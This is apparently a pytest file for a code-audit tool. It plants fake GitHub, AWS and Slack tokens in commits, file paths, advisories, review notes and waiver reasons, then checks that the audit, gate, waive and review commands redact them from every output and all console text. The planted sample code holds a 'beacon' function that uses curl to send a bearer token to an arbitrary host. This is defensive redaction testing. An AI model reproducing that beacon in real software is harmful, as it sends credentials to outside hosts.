"""A secret planted in every input field that reaches an output never reaches one (issue 32,
item 4): the demo example with secrets in a commit's subject and message, a file's path, code
(finding messages and snippets, the SBOM's diffs), a vulnerability's summary (report, SBOM,
OpenVEX), a sign-off's note, a waiver's reason; then the real `auditor audit`, `auditor gate`,
`auditor waive` and `auditor review` commands, and every file they write and all they print
searched for any piece of the secrets."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from auditor import demo
from auditor.review import demo as review_demo
from auditor.review.signoffs import ReviewVerdict

GH = "ghp_" + "Zq8Lm2Xv9Rt4Wn6Yp3Ks7Hd1Fg5Jc0Bv2Nx"  # fake, GitHub-shaped
AWS = "AKIA" + "QX7MZ2LPW4RT9KVB"  # fake, an AWS access key id's shape
SLACK = "xoxb-" + "1234567890-abcdefghijklmnop"
PIECES = (GH, GH[4:20], AWS, AWS[4:], SLACK, SLACK[5:])

LEAK_FILE = f"tinyllm/leak_{AWS}.py"
LEAK_CODE = (f'GITHUB_TOKEN = "{GH}"\n'
             "import subprocess\n\n\n"
             "def beacon(host):\n"
             f'    subprocess.run(f"curl -H \'Authorization: Bearer {GH}\' http://{{host}}/{SLACK}",'
             " shell=True)\n")


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "auditor", *args], capture_output=True,
                          text=True, timeout=1200, cwd=cwd)


def _assert_clean(where: str, text: str) -> None:
    for piece in PIECES:
        assert piece not in text, f"{where} holds a secret ({piece[:6]}…)"


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    root = tmp_path_factory.mktemp("planted") / "example"
    mp = pytest.MonkeyPatch()
    series = [*demo.SERIES, (f"tools: stats uploader {GH}\n\nuses {AWS} and {SLACK}",
                             {LEAK_FILE: LEAK_CODE})]
    plan = [*review_demo._PLAN,
            (len(series) - 1, "bob", ReviewVerdict.CONCERN, f"key {GH} seen; also {AWS}")]
    mp.setattr(demo, "SERIES", series)
    mp.setattr(review_demo, "_PLAN", tuple(plan))
    try:
        spec = demo.prepare(root)
    finally:
        mp.undo()
    listed = (root / "series.txt").read_text(encoding="utf-8").splitlines()  # subjects only
    (root / "series.txt").write_text("".join(f"{line}\n" for line in listed
                                             if re.match(r"#|[0-9a-f]{40} ", line)),
                                     encoding="utf-8")
    text = spec.read_text(encoding="utf-8")  # no build: the wheel does not carry the series
    spec.write_text(re.sub(r"\[build\][^\[]*", "", text), encoding="utf-8")
    for osv in (root / "osv-snapshot").glob("*.json"):
        record = json.loads(osv.read_text(encoding="utf-8"))
        record["summary"] = f"{record['summary']} (token {GH}, key {AWS})"
        record["details"] = f"details with {SLACK}"
        osv.write_text(json.dumps(record), encoding="utf-8")
    printed = []
    res = _cli("audit", str(spec), "--out", "out", cwd=root)
    printed += [res.stdout, res.stderr]
    assert (root / "out" / "audit.json").is_file(), res.stderr[-3000:]
    audit = json.loads((root / "out" / "audit.json").read_text(encoding="utf-8"))
    leaks = [f for f in audit["findings"] if f["path"].startswith("tinyllm/leak_")]
    assert leaks, "the planted file gave no finding"
    res = _cli("gate", str(spec), "--baseline", "out/audit.json", "--out", "gate", "--json",
               cwd=root)
    printed += [res.stdout, res.stderr]
    assert (root / "gate" / "gate.md").is_file(), res.stderr[-3000:]
    res = _cli("waive", "out/audit.json", "--finding", leaks[0]["fingerprint"],
               "--reason", f"accepted, token {GH} rotated", "--owner", f"ops {AWS}",
               "--expires", "2099-01-01", cwd=root)
    printed += [res.stdout, res.stderr]
    assert res.returncode == 0 and "[[" in res.stdout, res.stderr[-2000:]
    res = _cli("review", "plan", str(spec), "--reviewers", "2", "--out", "packets", cwd=root)
    printed += [res.stdout, res.stderr]
    return root, printed


def test_the_secrets_were_planted_where_the_pipeline_reads_them(
        planted: tuple[Path, list[str]]) -> None:
    root, _ = planted
    assert GH in (root / "series.txt").read_text(encoding="utf-8")
    assert GH in (root / "reviews.toml").read_text(encoding="utf-8")
    assert any(GH in p.read_text(encoding="utf-8") for p in (root / "osv-snapshot").glob("*"))


def test_no_output_file_holds_a_secret(planted: tuple[Path, list[str]]) -> None:
    root, _ = planted
    written = [p for d in ("out", "gate", "packets") if (root / d).is_dir()
               for p in (root / d).rglob("*") if p.is_file()]
    assert {p.name for p in written} >= {"audit.json", "report.md", "report.html",
                                         "findings.sarif", "sbom.cdx.json", "gate.md",
                                         "gate.json", "plan.json"}
    for p in written:
        _assert_clean(str(p.relative_to(root)), p.read_text(encoding="utf-8", errors="replace"))
    report = (root / "out" / "report.md").read_text(encoding="utf-8")
    assert "REDACTED" in report


def test_no_console_text_holds_a_secret(planted: tuple[Path, list[str]]) -> None:
    _, printed = planted
    for i, text in enumerate(printed):
        _assert_clean(f"output #{i} of the commands", text)
